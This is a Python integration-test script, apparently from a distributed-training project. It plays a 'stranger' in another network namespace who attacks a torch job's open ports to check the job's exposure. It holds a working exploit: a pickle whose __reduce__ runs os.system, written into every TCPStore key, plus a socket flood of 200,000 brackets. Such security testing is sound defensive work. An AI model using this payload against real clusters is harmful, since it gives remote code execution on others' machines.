"""A stranger's attack on a job of one machine, from another network namespace.

python attack.py DIRECTORY COMMAND...: runs in a namespace of its own (the stranger's), starts the
command in a second one, joins both by a veth pair, and attacks when DIRECTORY/out has metrics. It
knows host and ports, and speaks as torch's store and our side channel do. Prints what it reached.
"""

import base64
import contextlib
import json
import os
import pickle
import signal
import socket
import subprocess
import sys
import time
from datetime import timedelta
from pathlib import Path

from tests.integration import quiet_network, two_hosts

HOST, STRANGER = "10.77.0.2", "10.77.0.1"
READY = f'until ip address show | grep -q {HOST}; do sleep 0.05; done; exec "$0" "$@"'
KEEP_ALIVE_S = 8.0
"""After which torchelastic has read its rendezvous' state again: it does every 5 s."""


class Payload:
    """Makes a file where it is unpickled."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, (f"touch {self.file}",))


def attack(port: int, file: Path) -> None:
    """Says to whoever listens what a store, and what the side channel, would take for its own."""
    from torch.distributed import TCPStore

    end = socket.create_connection((HOST, port), timeout=2)
    with end, contextlib.suppress(OSError):
        end.sendall(b"[" * 200_000)
    with contextlib.suppress(Exception):
        store = TCPStore(HOST, port, None, False, timedelta(seconds=2), wait_for_workers=False)
        state = base64.b64encode(pickle.dumps(Payload(file)))
        for key in store.list_keys():
            store.set(key, state)


def main(directory: Path, command: list[str]) -> None:
    """Prints what was open to the stranger, what came of it, and how the job ended."""
    prefix = quiet_network.prefix()
    assert prefix is not None
    job = subprocess.Popen(
        [*prefix, "sh", "-c", READY, *command], cwd=directory, stderr=subprocess.PIPE, text=True
    )
    two_hosts.join(job.pid, (STRANGER, HOST))
    metrics, file = directory / "out" / "metrics.jsonl", directory / "executed"
    while job.poll() is None and not (metrics.exists() and metrics.stat().st_size):
        time.sleep(0.05)
    places, reached = two_hosts.listeners(job.pid), []
    open_to_all = [place for place in places if not place[0].startswith("127.")]
    for _, port in places:
        with contextlib.suppress(ConnectionRefusedError):
            attack(port, file)
            reached.append(port)
    if reached:
        time.sleep(KEEP_ALIVE_S)
    job.send_signal(signal.SIGINT)
    errors = job.communicate(timeout=100)[1]
    told = {"open": open_to_all, "reached": reached, "executed": file.exists()}
    print(json.dumps({**told, "code": job.returncode, "errors": errors}))


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2:])
